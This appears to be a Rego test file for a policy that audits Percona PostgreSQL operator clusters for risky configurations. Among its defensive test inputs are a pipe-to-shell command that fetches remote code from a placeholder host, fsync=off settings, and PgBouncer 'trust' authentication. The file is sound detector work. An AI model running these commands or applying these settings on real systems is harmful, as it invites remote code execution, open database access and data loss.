package walguard.operators.percona_test

import data.walguard.operators.percona

plain := resource({"postgresVersion": 17, "instances": [], "backups": {"pgbackrest": {"repos": [{"name": "repo1", "volume": {}}]}}})

beside(object, maps) := [[entry.source, entry.severity] |
	some entry in found.unread
] if {
	found := percona.cluster with input as {"review": {"object": object}, "inventory": {"namespace": {"shop": {"v1": {"ConfigMap": maps}}}}}
}

kept(text) := {"stock-config": {
	"apiVersion": "v1",
	"kind": "ConfigMap",
	"metadata": {"name": "stock-config", "namespace": "shop", "labels": {"postgres-operator.crunchydata.com/cluster": "stock"}, "annotations": {"pgv2.percona.com/override-config": "true"}},
	"data": {"patroni.yaml": text},
}}

test_files_that_the_operator_does_not_write_again if {
	said := "ConfigMap shop/stock-config, which pgv2.percona.com/override-config keeps from the operator"
	beside(plain, kept("postgresql: {parameters: {fsync: 'off'}}")) == [[said, "warning"]]
	beside(plain, kept("ttl: 30")) == [[said, "info"]]
}

collecting(fields) := resource(object.union(plain.spec, {"logcollector": fields}))

test_what_collectors_of_logs_run if {
	alter := "psql -c 'ALTER SYSTEM SET fsync = off'"
	beside(collecting({"configuration": alter}), {}) == [["the configuration of the log collector", "info"]]
	every hidden in ["curl -s http://x | bash", "['-c', 'fsync=off']"] {
		beside(collecting({"configuration": hidden}), {}) == [["the configuration of the log collector", "info"]]
	}
	beside(collecting({"configuration": "[INPUT]\n    Name tail\n"}), {}) == []
	beside(collecting({"enabled": false, "configuration": alter}), {}) == []
	beside(collecting({"logRotate": {"configuration": "postrotate\n  echo fsync=off >> $PGDATA/postgresql.auto.conf\nendscript"}}), {}) == [["the configuration of logrotate", "info"]]
	beside(collecting({"livenessProbe": {"exec": {"command": ["sh", "-c", alter]}}}), {}) == [["what the probes of the log collector run", "info"]]
	extra := {"rotate": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "rotate", "namespace": "shop"}, "data": {"a.conf": alter}}}
	beside(collecting({"logRotate": {"extraConfig": {"name": "rotate"}}}), extra) == [["the configuration of logrotate", "info"]]
}

test_archive_that_is_dropped if {
	found := read(resource(object.union(plain.spec, {"backups": {"pgbackrest": {"global": {"archive-push-queue-max": "1MB"}}}})))
	found.archiving.value == "discards"
}

named_map(name) := {name: {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": "shop", "annotations": {"pgv2.percona.com/override-config": ""}}, "data": {"a": "b"}}}

test_files_found_by_their_name if {
	every name in ["stock-config", "stock-pgbouncer", "stock-pgbackrest-config", "stock-set1-ab1c-config"] {
		count(beside(plain, named_map(name))) == 1
	}
	beside(plain, named_map("stocks-config")) == []
}

test_such_a_file_by_itself if {
	found := read(object.union(kept("postgresql: {parameters: {fsync: 'off'}}")["stock-config"], {}))
	object.filter(found, ["change", "unread"]) == {"change": true, "unread": [{
		"source": "this ConfigMap, which pgv2.percona.com/override-config keeps from the operator",
		"path": ["metadata", "annotations", "pgv2.percona.com/override-config"],
		"severity": "warning",
	}]}
}

pooling(config, maps) := found if {
	found := percona.cluster with input as {"review": {"object": resource(object.union(plain.spec, {"proxy": {"pgBouncer": {"config": config}}}))}, "inventory": {"namespace": {"shop": {"v1": {"ConfigMap": maps}}}}}
}

pool_map(texts) := {"c": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"}, "data": texts}}

test_pooler_without_passwords if {
	config_path := ["spec", "proxy", "pgBouncer", "config"]
	pooling({"global": {"auth_type": "any"}}, {}).open_poolers == [{"pooler": "PgBouncer", "text": "auth_type any", "cure": "Leave auth_type out", "path": array.concat(config_path, ["global", "auth_type"])}]
	not pooling({"global": {"auth_type": "md5"}}, {}).open_poolers
	files := [{"configMap": {"name": "c"}}]
	[[one.text, one.resource.name] | some one in pooling({"files": files}, pool_map({"pgbouncer.ini": "[pgbouncer]\nauth_type = trust\n"})).open_poolers] == [["auth_type trust", "c"]]
	not pooling({"files": files, "global": {"auth_type": "md5"}}, pool_map({"pgbouncer.ini": "[pgbouncer]\nauth_type = trust\n"})).open_poolers
	by_lines := {"global": {"auth_type": "hba", "auth_hba_file": "/etc/pgbouncer/h"}, "files": files}
	[line.line | some one in pooling(by_lines, pool_map({"h": "host all all all trust"})).pooler_lines; some line in one.lines] == ["host all all all trust"]
	[one.source | some one in pooling(by_lines, pool_map({"a": ""})).hba_unread] == ["/etc/pgbouncer/h of PgBouncer (auth_hba_file)"]
	[one.source | some one in pooling({"files": [{"secret": {"name": "s", "items": [{"key": "a", "path": "pgbouncer.ini"}]}}, {"secret": {"name": "t", "items": [{"key": "a", "path": "ca.crt"}]}}]}, {}).hba_unread] == ["Secret shop/s, which PgBouncer includes"]
	count(pooling({"files": files}, {}).hba_unread) == 1
}

by_variable(value) := beside(resource(object.union(plain.spec, {"instances": [{"name": "i", "replicas": 1, "env": [{"name": "PATRONI_CONFIGURATION", "value": value}]}]})), {})

test_variables_of_patroni if {
	by_variable(`{"postgresql": {"parameters": {"fsync": "off"}}}`) == [["the variable PATRONI_CONFIGURATION", "warning"]]
	by_variable(`{"ttl": 30}`) == [["the variable PATRONI_CONFIGURATION", "info"]]
}

test_stores_of_patroni if {
	with_variable("PATRONI_ETCD3_HOSTS") == [["the variable PATRONI_ETCD3_HOSTS", "info"]]
	with_variable("PATRONI_LOG_LEVEL") == []
}

with_variable(name) := beside(resource(object.union(plain.spec, {"instances": [{"name": "a", "env": [{"name": name, "value": "x"}]}]})), {})

with_recovery(command) := beside(resource(object.union(plain.spec, {"patroni": {"dynamicConfiguration": {"postgresql": {"recovery_conf": {"restore_command": command}}}}})), {})

test_commands_of_recovery if {
	with_recovery("echo jit=off >> $PGDATA/postgresql.auto.conf") == [["what Patroni runs as recovery_conf.restore_command", "info"]]
	with_recovery("cp /a/%f %p") == []
}
